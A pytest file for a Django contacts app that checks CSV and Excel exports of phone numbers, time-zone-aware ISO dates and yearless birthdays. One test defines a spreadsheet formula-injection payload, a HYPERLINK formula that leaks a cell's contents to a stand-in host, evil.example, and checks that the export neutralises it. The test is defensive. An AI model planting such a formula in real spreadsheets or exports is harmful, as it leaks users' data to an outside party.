"""Exports of real-world values: phone numbers as exact text, dates and times in ISO in the
workspace's time zone, formulas still neutralised (tests/fixtures/realworld/INDEX.md)."""

import csv
import datetime
import io
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

from contacts.models import Contact
from tests.contacts.factories import ContactFactory, CustomFieldFactory
from tests.contacts.test_export import _export, _rows
from workspaces.scoping import workspace_scope

REALWORLD = Path(__file__).resolve().parents[1] / "fixtures" / "realworld"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Harriet")'


@pytest.fixture
def berlin(workspace):
    workspace.time_zone = "Europe/Berlin"
    workspace.save()
    return workspace


def _import(path):
    out = StringIO()
    call_command("import_contacts", "--workspace", "acme", str(path), stdout=out)
    return out.getvalue()


def _cells(sheet):
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    return [
        {h: sheet.cell(row=r, column=i + 1) for i, h in enumerate(header)}
        for r in range(2, sheet.max_row + 1)
    ]


def test_xlsx_export_phone_file_exports_the_phone_as_exact_text(berlin, owner_client, excel):
    assert "created 1, updated 0, skipped 0, rejected 0" in _import(
        REALWORLD / "xlsx-export-phone.csv"
    )
    row = _rows(_export(owner_client))[0]
    assert (row["First name"], row["Last name"], row["Phone"]) == (
        "Harriet",
        "Pembroke",
        "+442079460018",
    )
    cells = _cells(excel())[0]
    phone = cells["Phone"]
    assert (phone.value, phone.data_type) == ("+442079460018", "s")


def test_a_formula_in_a_name_stays_neutralised_next_to_the_exact_phone(
    berlin, owner_client, excel, tmp_path
):
    source = (REALWORLD / "xlsx-export-phone.csv").read_text(encoding="utf-8")
    evil_file = tmp_path / "evil.csv"
    quoted = EVIL.replace('"', '""')
    evil_file.write_text(source + f'"{quoted}",Pembroke,+44 20 7946 0019\n', encoding="utf-8")
    assert "created 2" in _import(evil_file)
    rows = {r["Phone"]: r for r in _rows(_export(owner_client))}
    assert rows["+442079460019"]["First name"] == "'" + EVIL
    assert rows["+442079460018"]["First name"] == "Harriet"
    by_phone = {c["Phone"].value: c for c in _cells(excel())}
    name = by_phone["+442079460019"]["First name"]
    assert (name.value, name.data_type, name.quotePrefix) == (EVIL, "s", True)
    assert by_phone["+442079460018"]["Phone"].data_type == "s"


def _created_at(workspace, contact, when):
    with workspace_scope(workspace):
        Contact.objects.filter(pk=contact.pk).update(created_at=when)


def test_dates_and_times_export_in_iso_in_the_workspace_time_zone(berlin, owner_client, excel):
    CustomFieldFactory(workspace=berlin, key="renewal", label="Renewal", field_type="date")
    winter = ContactFactory(
        workspace=berlin,
        last_name="Winter",
        date_of_birth=datetime.date(1965, 5, 17),
        custom={"renewal": "2027-01-31"},
    )
    summer = ContactFactory(workspace=berlin, last_name="Summer")
    _created_at(
        berlin, winter, datetime.datetime(2026, 11, 29, 13, 3, 7, 654321, tzinfo=datetime.UTC)
    )
    _created_at(berlin, summer, datetime.datetime(2026, 7, 1, 22, 30, 0, 1, tzinfo=datetime.UTC))
    rows = {r["Last name"]: r for r in _rows(_export(owner_client))}
    assert rows["Winter"]["Created"] == "2026-11-29T14:03:07+01:00"
    assert rows["Summer"]["Created"] == "2026-07-02T00:30:00+02:00"
    assert rows["Winter"]["Birthday"] == "1965-05-17"
    assert rows["Winter"]["Renewal"] == "2027-01-31"
    cells = {c["Last name"].value: c for c in _cells(excel())}
    assert cells["Winter"]["Created"].value == "2026-11-29T14:03:07+01:00"
    assert cells["Summer"]["Created"].value == "2026-07-02T00:30:00+02:00"
    assert cells["Winter"]["Birthday"].value == "1965-05-17"


def test_account_export_times_follow_the_workspace_zone(owner_client, workspace):
    from contacts.models import Account
    from tests.contacts.factories import AccountFactory

    workspace.time_zone = "America/New_York"
    workspace.save()
    account = AccountFactory(workspace=workspace, name="Harbour", phone="+12125550187")
    with workspace_scope(workspace):
        Account.objects.filter(pk=account.pk).update(
            created_at=datetime.datetime(2026, 3, 8, 7, 0, 0, 5, tzinfo=datetime.UTC)
        )
    body = b"".join(_export(owner_client, name="account_export").streaming_content)
    row = next(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert (row["Phone"], row["Created"]) == ("+12125550187", "2026-03-08T03:00:00-04:00")


def test_title_extension_and_a_birthday_without_year_are_exported_and_read_back(
    berlin, owner_client, excel
):
    """Nothing a contact holds is lost on the way out: the title, the extension beside the
    number, and a birthday without a year in ISO 8601's form "--MM-DD" (in CSV behind the
    apostrophe that keeps spreadsheets from computing it; the importer reads it back)."""
    from tests.contacts.fixtures.importing import csv_bytes, run_import

    contact = ContactFactory(
        workspace=berlin,
        last_name="Wolf",
        title="Dr.",
        phone="+494055501200",
        phone_extension="201",
        date_of_birth=None,
    )
    contact.birthday_month, contact.birthday_day = 5, 17
    contact.save()
    row = next(r for r in _rows(_export(owner_client)) if r["Last name"] == "Wolf")
    assert (row["Title"], row["Phone"], row["Extension"]) == ("Dr.", "+494055501200", "201")
    assert row["Birthday"] == "'--05-17"
    cells = next(c for c in _cells(excel()) if c["Last name"].value == "Wolf")
    assert cells["Birthday"].value == "--05-17"

    with workspace_scope(berlin):
        job = run_import(
            berlin,
            csv_bytes("Last Name,Email,Birthday", f"Fox,fox@example.org,{row['Birthday']}"),
        )
        assert job.created_count == 1
        fox = Contact.objects.get(last_name="Fox")
    assert (fox.date_of_birth, fox.birthday_month, fox.birthday_day) == (None, 5, 17)
